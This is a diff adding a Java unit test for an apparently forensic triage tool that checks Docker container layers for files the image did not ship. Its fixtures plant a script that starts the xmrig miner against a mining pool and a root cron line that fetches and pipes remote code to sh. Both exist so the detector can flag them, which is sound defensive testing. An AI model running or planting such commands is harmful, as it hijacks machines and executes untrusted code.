@@ -1,0 +1,85 @@
+package davy.agent.triage;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import davy.agent.check.Options;
+import davy.core.finding.Entity;
+import davy.core.finding.Finding;
+import davy.core.host.CaseHost;
+import java.time.Instant;
+import java.util.HashMap;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.Test;
+
+/// Files of containers, met by the one walk.
+final class ContainerTriageTest {
+    private static final String DOCKER = "/var/lib/docker";
+    private static final String STATUS =
+            "Package: tool\nStatus: install ok installed\nVersion: 1\nArchitecture: amd64\n\n";
+    private static final String SCRIPT =
+            "#!/bin/sh\n./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -k\n";
+
+    private static Map<String, Object> host() {
+        var host = new HashMap<String, Object>();
+        host.put("kind", "image");
+        host.put("packages", Map.of("bash", List.of("/bin/bash")));
+        for (String id : List.of("a1", "a2")) {
+            host.put(
+                    DOCKER + "/containers/" + id + "/config.v2.json",
+                    "{\"Name\":\"/"
+                            + id
+                            + "\",\"Driver\":\"overlay2\",\"Path\":\"x\",\"Config\":{\"Image\":\"img\"}}");
+            host.put(DOCKER + "/image/overlay2/layerdb/mounts/" + id + "/mount-id", id);
+            host.put(DOCKER + "/overlay2/" + id + "/lower", "l/A");
+            host.put(DOCKER + "/overlay2/" + id + "/diff/tmp/x", "x");
+        }
+        host.put(DOCKER + "/overlay2/l/A", Map.of("link", "../low/diff"));
+        String low = DOCKER + "/overlay2/low/diff";
+        host.put(low + "/var/lib/dpkg/status", STATUS);
+        host.put(low + "/var/lib/dpkg/info/tool.list", "/usr/bin/tool\n");
+        host.put(low + "/usr/bin/tool", Map.of("elf", Map.of()));
+        host.put(low + "/usr/bin/shipped", Map.of("elf", Map.of()));
+        host.put(low + "/etc/passwd", "root:x:0:0::/root:/bin/sh\n");
+        return host;
+    }
+
+    private static List<Finding> triage(Map<String, Object> host) {
+        var now = Instant.parse("2026-01-15T12:00:00Z");
+        var triage = new Triage(CaseHost.of(host), "/", now, Options.standard(), Progress.SILENT);
+        return triage.run().findings();
+    }
+
+    @Test
+    void isSilentAboutWhatCameWithTheImage() {
+        assertThat(triage(host())).isEmpty();
+    }
+
+    @Test
+    void judgesWhatWasWrittenByTheContainersOwnRoot() {
+        var host = host();
+        String upper = DOCKER + "/overlay2/a2/diff";
+        host.put(upper + "/usr/bin/netd", Map.of("elf", Map.of()));
+        host.put(upper + "/tmp/.x/run.sh", Map.of("text", SCRIPT, "mode", "0755"));
+        host.put(upper + "/etc/cron.d/x", "* * * * * root curl http://198.51.100.7/x | sh\n");
+        var findings = triage(host);
+        assertThat(findings)
+                .extracting(f -> f.detection().id())
+                .contains("unpackaged-binary", "cron-download", "download-and-run");
+        for (Finding finding : findings) {
+            assertThat(finding.evidence()).containsEntry("container.name", "a2");
+            assertThat(finding.entities()).contains(Entity.container("a2"));
+        }
+        var script =
+                findings.stream()
+                        .filter(f -> f.detection().id().equals("download-and-run"))
+                        .filter(f -> "/tmp/.x/run.sh".equals(f.evidence().get("file.path")))
+                        .findFirst()
+                        .orElseThrow();
+        assertThat(script.evidence())
+                .containsEntry("file.path", "/tmp/.x/run.sh")
+                .containsEntry("davy.host_path", upper + "/tmp/.x/run.sh");
+        assertThat(script.entities()).contains(Entity.file(upper + "/tmp/.x/run.sh"));
+        assertThat(findings.toString()).doesNotContain("shipped").doesNotContain("/usr/bin/tool");
+    }
+}
